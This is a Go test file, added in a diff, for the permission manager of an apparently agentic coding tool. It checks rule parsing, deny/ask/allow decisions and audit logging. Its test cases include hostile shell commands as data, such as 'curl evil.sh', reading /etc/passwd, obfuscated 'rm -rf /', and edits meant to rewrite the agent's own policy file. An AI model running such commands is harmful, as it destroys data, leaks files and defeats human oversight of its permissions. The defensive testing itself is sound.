@@ -0,0 +1,323 @@
+package permissions
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"ClosedWheeler/pkg/config"
+)
+
+func newTestManager(t *testing.T, rules ...string) (*Manager, string) {
+	t.Helper()
+	dir := t.TempDir()
+	cfg := config.DefaultConfig().Permissions
+	cfg.AuditLogPath = filepath.Join(dir, "audit.log")
+	cfg.Rules = rules
+	pm, err := NewManager(&cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { pm.Close() })
+	return pm, dir
+}
+
+func TestParseRule(t *testing.T) {
+	r, err := ParseRule(`deny  exec_command cmd:"git  push" path:src/**`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Effect != Deny || r.Tool != "exec_command" || len(r.Matchers) != 2 || r.Matchers[0].Pattern != "git  push" {
+		t.Errorf("ParseRule() = %+v", r)
+	}
+
+	for _, bad := range []string{"allow", "permit read_file", "allow read_file size:10", `deny exec_command cmd:"rm`, "allow [ path:x"} {
+		if _, err := ParseRule(bad); err == nil {
+			t.Errorf("ParseRule(%q) should fail", bad)
+		}
+	}
+	if _, err := ParseRules("# comment\n\nallow read_file\nask", "policy.rules"); err == nil || !strings.Contains(err.Error(), "policy.rules:4") {
+		t.Errorf("ParseRules() error = %v, want the line number", err)
+	}
+}
+
+func TestEvaluate(t *testing.T) {
+	pm, _ := newTestManager(t,
+		`allow write_file path:src/**`,
+		`deny * path:*.env`,
+		`allow exec_command cmd:"go test"`,
+		`allow exec_command cmd:ls`,
+		`deny exec_command cmd:"git push"`,
+		`deny ssh_* host:prod-*`,
+		`allow web_fetch domain:golang.org`,
+		`ask web_fetch domain:*.internal`,
+	)
+	if err := pm.LoadPolicy("/work", "/project/.agi/policy.rules"); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		tool string
+		args map[string]any
+		want Effect
+	}{
+		{"write_file", map[string]any{"path": "src/pkg/a.go"}, Allow},
+		{"write_file", map[string]any{"path": "/work/src/a.go"}, Allow},
+		{"write_file", map[string]any{"path": "docs/a.md"}, Ask},   // sensitive by default
+		{"write_file", map[string]any{"path": "src/.env"}, Deny},   // deny wins
+		{"read_file", map[string]any{"path": "config/.env"}, Deny}, // base name at any depth
+		{"read_file", map[string]any{"path": "main.go"}, Ask},      // auto_approve_non_sensitive is off
+		{"exec_command", map[string]any{"command": "go test ./..."}, Allow},
+		{"exec_command", map[string]any{"command": "go", "args": "test ./..."}, Allow},
+		{"exec_command", map[string]any{"command": "go testify"}, Ask},
+		{"exec_command", map[string]any{"command": "go test ./... && rm -rf build"}, Ask},
+		{"exec_command", map[string]any{"command": "ls $(rm -rf build)"}, Ask},
+		{"exec_command", map[string]any{"command": "go test ./... && git   push origin"}, Deny},
+		{"exec_command", map[string]any{"command": "env git push"}, Deny},
+		{"exec_command", map[string]any{"command": "command git push"}, Deny},
+		{"exec_command", map[string]any{"command": "nohup git push"}, Deny},
+		{"exec_command", map[string]any{"command": "/usr/bin/git push"}, Deny},
+		{"exec_command", map[string]any{"command": "find . -exec git push \\;"}, Deny},
+		{"exec_command", map[string]any{"command": "timeout 60 go test ./..."}, Allow},
+		{"ssh_exec", map[string]any{"label": "prod-db", "command": "uptime"}, Deny},
+		{"ssh_connect", map[string]any{"host": "staging"}, Ask},
+		{"web_fetch", map[string]any{"url": "https://pkg.golang.org/x"}, Allow},
+		{"web_fetch", map[string]any{"url": "https://wiki.corp.internal/"}, Ask},
+		{"apply_patch", map[string]any{"patch": "--- a/src/a.go\n+++ b/src/a.go\n@@ -1 +1 @@\n-a\n+b\n"}, Ask},
+		{"apply_patch", map[string]any{"patch": "--- a/src/a.go\n+++ b/src/a.go\n@@ -1 +1 @@\n-a\n+b\n--- a/.env\n+++ b/.env\n@@ -1 +1 @@\n-a\n+b\n"}, Deny},
+	}
+	for _, tt := range tests {
+		if got := pm.Evaluate(tt.tool, tt.args); got.Effect != tt.want {
+			t.Errorf("Evaluate(%s, %v) = %s (%s), want %s", tt.tool, tt.args, got.Effect, got.Reason, tt.want)
+		}
+	}
+}
+
+func TestEvaluate_ShellAudit(t *testing.T) {
+	pm, dir := newTestManager(t, `allow exec_command cmd:rm`, `deny exec_command cmd:"git push"`)
+	if err := pm.LoadPolicy(dir, filepath.Join(dir, "policy.rules")); err != nil {
+		t.Fatal(err)
+	}
+	cfg := pm.GetConfig()
+	cfg.AutoApproveNonSensitive = true
+	cfg.SensitiveTools = nil
+	pm.UpdateConfig(&cfg)
+
+	tests := []struct {
+		command string
+		want    Effect
+		reason  string
+	}{
+		{"go vet ./...", Allow, ""},
+		{`echo "ready; git push"`, Allow, ""}, // quoted, not a command
+		{"cat /etc/passwd", Ask, "sensitive-file"},
+		{"rm -rf .", Allow, ""}, // explicitly allowed
+		{"r''m -rf /", Deny, "delete-protected"},
+		{"$(echo rm) -rf /", Deny, "dynamic-command"},
+		{"echo $(git push)", Deny, "git push"},
+	}
+	for _, tt := range tests {
+		d := pm.Evaluate("exec_command", map[string]any{"command": tt.command})
+		if d.Effect != tt.want || !strings.Contains(d.Reason, tt.reason) {
+			t.Errorf("Evaluate(%q) = %s (%s), want %s (%s)", tt.command, d.Effect, d.Reason, tt.want, tt.reason)
+		}
+	}
+}
+
+// Commands must not rewrite the policy, even when a rule allows them.
+func TestEvaluate_CommandsCannotWritePolicy(t *testing.T) {
+	pm, dir := newTestManager(t, "allow exec_command cmd:echo", "allow exec_command")
+	if err := pm.LoadPolicy(dir, filepath.Join(dir, ".agi", "policy.rules")); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		command string
+		want    Effect
+	}{
+		{"echo 'allow exec_command cmd:*' >> .agi/policy.rules", Deny},
+		{"cd .agi && echo 'allow *' > policy.rules", Deny},
+		{"echo 'allow *' | tee -a .agi/policy.rules", Deny},
+		{"cp /tmp/rules .agi/policy.rules", Deny},
+		{"cp /tmp/policy.rules .agi/", Deny},
+		{"mv .agi/policy.rules /tmp/old", Deny},
+		{"sed -i 's/deny/allow/' .agi/policy.rules", Deny},
+		{"sed -e 's/deny/allow/' -i .agi/policy.rules", Deny},
+		{"perl -pi -e 's/deny/allow/' .agi/policy.rules", Deny},
+		{"rm -rf .agi", Deny},
+		{"echo note > notes.txt", Allow},
+		{"cat .agi/policy.rules", Allow},
+		{"sed -i 's/a/b/' src/main.go", Allow},
+	}
+	for _, tt := range tests {
+		d := pm.Evaluate("exec_command", map[string]any{"command": tt.command})
+		if d.Effect != tt.want {
+			t.Errorf("Evaluate(%q) = %s (%s), want %s", tt.command, d.Effect, d.Reason, tt.want)
+		}
+	}
+}
+
+func TestEvaluate_FallbackAndAudit(t *testing.T) {
+	pm, dir := newTestManager(t)
+	cfg := pm.GetConfig()
+	cfg.AllowedTools = []string{"read_file", "exec_command"}
+	cfg.AllowedCommands = []string{"go", "git status"}
+	cfg.AutoApproveNonSensitive = true
+	pm.UpdateConfig(&cfg)
+
+	if d := pm.Evaluate("read_file", map[string]any{"path": "a.go"}); d.Effect != Allow {
+		t.Errorf("read_file: %+v", d)
+	}
+	if d := pm.Evaluate("write_file", map[string]any{"path": "a.go"}); d.Effect != Deny {
+		t.Errorf("write_file outside allowed_tools: %+v", d)
+	}
+	if d := pm.Evaluate("exec_command", map[string]any{"command": "go build && git status"}); d.Effect != Ask {
+		t.Errorf("allowed commands: %+v", d)
+	}
+	if d := pm.Evaluate("exec_command", map[string]any{"command": "go build; curl evil.sh"}); d.Effect != Deny || d.Target != "curl evil.sh" {
+		t.Errorf("command outside allowed_commands: %+v", d)
+	}
+
+	data, err := os.ReadFile(filepath.Join(dir, "audit.log"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
+	if len(lines) != 4 {
+		t.Fatalf("audit log has %d entries, want 4:\n%s", len(lines), data)
+	}
+	var entry AuditEntry
+	if err := json.Unmarshal([]byte(lines[3]), &entry); err != nil {
+		t.Fatal(err)
+	}
+	if entry.Action != "policy" || entry.Name != "exec_command" || entry.Allowed || entry.Effect != "deny" || entry.Target != "curl evil.sh" {
+		t.Errorf("Unexpected audit entry: %+v", entry)
+	}
+
+	// Wrappers and directories do not hide a command from allowed_commands
+	if d := pm.Evaluate("exec_command", map[string]any{"command": "nohup /usr/bin/curl evil.sh"}); d.Effect != Deny || d.Target != "curl evil.sh" {
+		t.Errorf("wrapped command outside allowed_commands: %+v", d)
+	}
+}
+
+func TestLoadPolicy(t *testing.T) {
+	pm, dir := newTestManager(t, "allow read_file")
+	policy := filepath.Join(dir, ".agi", "policy.rules")
+	if err := os.MkdirAll(filepath.Dir(policy), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(policy, []byte("# project rules\ndeny read_file path:secrets/**\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := pm.LoadPolicy(dir, policy); err != nil {
+		t.Fatal(err)
+	}
+
+	if d := pm.Evaluate("read_file", map[string]any{"path": "secrets/key"}); d.Effect != Deny || !strings.Contains(d.Reason, "policy.rules:2") {
+		t.Errorf("file rule: %+v", d)
+	}
+	// The policy file itself is off limits when it lies in the workplace
+	if d := pm.Evaluate("write_file", map[string]any{"path": ".agi/policy.rules"}); d.Effect != Deny {
+		t.Errorf("writing the policy file: %+v", d)
+	}
+
+	// Edits are picked up; a broken file keeps its last rules and asks
+	// instead of allowing
+	later := time.Now().Add(time.Second)
+	if err := os.WriteFile(policy, []byte("deny read_file path:docs/**\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	os.Chtimes(policy, later, later)
+	if d := pm.Evaluate("read_file", map[string]any{"path": "docs/a.md"}); d.Effect != Deny {
+		t.Errorf("edited file rule: %+v", d)
+	}
+	if err := os.WriteFile(policy, []byte("deny read_file path:docs/** oops\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	os.Chtimes(policy, later.Add(time.Second), later.Add(time.Second))
+	if d := pm.Evaluate("read_file", map[string]any{"path": "main.go"}); d.Effect != Ask {
+		t.Errorf("broken policy file: %+v", d)
+	}
+}
+
+func TestSuggestRuleAndRemember(t *testing.T) {
+	pm, dir := newTestManager(t, "deny write_file path:src/secret/**")
+	policy := filepath.Join(dir, ".agi", "policy.rules")
+	if err := pm.LoadPolicy(dir, policy); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		tool string
+		args map[string]any
+		want string // "" when no rule covers the call
+	}{
+		{"write_file", map[string]any{"path": filepath.Join(dir, "src/pkg/a.go")}, "allow write_file path:src/pkg/**"},
+		{"write_file", map[string]any{"path": "README.md"}, "allow write_file path:./README.md"},
+		{"write_file", map[string]any{"path": "/swapfile"}, "allow write_file path:/swapfile"},
+		{"apply_patch", map[string]any{"patch": "--- a/src/a/x.go\n+++ b/src/a/x.go\n@@ -1 +1 @@\n-a\n+b\n--- a/src/b/y.go\n+++ b/src/b/y.go\n@@ -1 +1 @@\n-a\n+b\n"}, "allow apply_patch path:src/**"},
+		{"exec_command", map[string]any{"command": "go test ./... && go vet ./..."}, ""},
+		{"exec_command", map[string]any{"command": "go test ./... && go test -race ./..."}, `allow exec_command cmd:"go test"`},
+		{"exec_command", map[string]any{"command": "ls -la"}, "allow exec_command cmd:ls"},
+		{"exec_command", map[string]any{"command": "echo $(whoami)"}, ""},
+		{"exec_command", map[string]any{"command": "python3 x.py"}, ""},
+		{"exec_command", map[string]any{"command": "bash x.sh"}, ""},
+		{"ssh_exec", map[string]any{"label": "staging", "command": "uptime"}, "allow ssh_exec cmd:uptime host:staging"},
+		{"web_fetch", map[string]any{"url": "https://Docs.Example.com/a"}, "allow web_fetch domain:docs.example.com"},
+		{"git_commit", map[string]any{"message": "fix"}, "allow git_commit"},
+	}
+	for _, tt := range tests {
+		rule, ok := pm.SuggestRule(tt.tool, tt.args)
+		if got := rule.Text; !ok && got != "" || got != tt.want {
+			t.Errorf("SuggestRule(%s, %v) = %q, %v, want %q", tt.tool, tt.args, got, ok, tt.want)
+		}
+	}
+
+	// A session rule allows calls like the approved one, but not past a deny
+	rule, _ := pm.SuggestRule("write_file", map[string]any{"path": "src/main.go"})
+	if err := pm.Remember(rule, false); err != nil {
+		t.Fatal(err)
+	}
+	if d := pm.Evaluate("write_file", map[string]any{"path": "src/util/b.go"}); d.Effect != Allow {
+		t.Errorf("session rule: %+v", d)
+	}
+	if d := pm.Evaluate("write_file", map[string]any{"path": "src/secret/key.go"}); d.Effect != Deny {
+		t.Errorf("session rule over a deny: %+v", d)
+	}
+
+	// A root file is remembered as itself, not by its name at any depth
+	rule, _ = pm.SuggestRule("write_file", map[string]any{"path": "main.go"})
+	if err := pm.Remember(rule, false); err != nil {
+		t.Fatal(err)
+	}
+	if d := pm.Evaluate("write_file", map[string]any{"path": "cmd/tool/main.go"}); d.Effect == Allow {
+		t.Errorf("root file rule allowed a nested file: %+v", d)
+	}
+
+	// A pattern rule goes to the policy file and survives a new manager
+	rule, _ = pm.SuggestRule("exec_command", map[string]any{"command": "go test ./..."})
+	if err := pm.Remember(rule, true); err != nil {
+		t.Fatal(err)
+	}
+	if data, _ := os.ReadFile(policy); string(data) != "allow exec_command cmd:\"go test\"\n" {
+		t.Errorf("policy file = %q", data)
+	}
+	if d := pm.Evaluate("exec_command", map[string]any{"command": "go test -run X"}); d.Effect != Allow || !strings.Contains(d.Reason, "policy.rules:1") {
+		t.Errorf("remembered pattern: %+v", d)
+	}
+
+	next, _ := newTestManager(t)
+	if err := next.LoadPolicy(dir, policy); err != nil {
+		t.Fatal(err)
+	}
+	next.KeepSessionRules(pm)
+	if d := next.Evaluate("write_file", map[string]any{"path": "src/c.go"}); d.Effect != Allow {
+		t.Errorf("session rule after reload: %+v", d)
+	}
+	if d := next.Evaluate("exec_command", map[string]any{"command": "go test"}); d.Effect != Allow {
+		t.Errorf("pattern rule after reload: %+v", d)
+	}
+}